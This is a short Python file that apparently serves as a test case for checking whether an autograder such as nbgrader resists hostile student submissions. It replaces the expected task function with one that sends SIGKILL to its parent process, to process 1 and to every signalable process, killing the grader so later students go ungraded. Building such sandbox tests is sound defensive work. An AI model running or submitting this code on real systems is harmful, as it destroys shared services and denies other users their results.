"""Sends SIGKILL to its parent, to process 1 and to every other process that it may signal.

Stock nbgrader: the grader itself is killed, and nobody after this student is graded.
"""

NAMED = "sent a signal to another process"
COSTS = ["words"]
EVERY_LAB = True

import os
import signal


def kills(*_, **__):
    for pid in (os.getppid(), 1, -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError as problem:
            print(pid, problem)
    return []


globals()[TASK] = kills
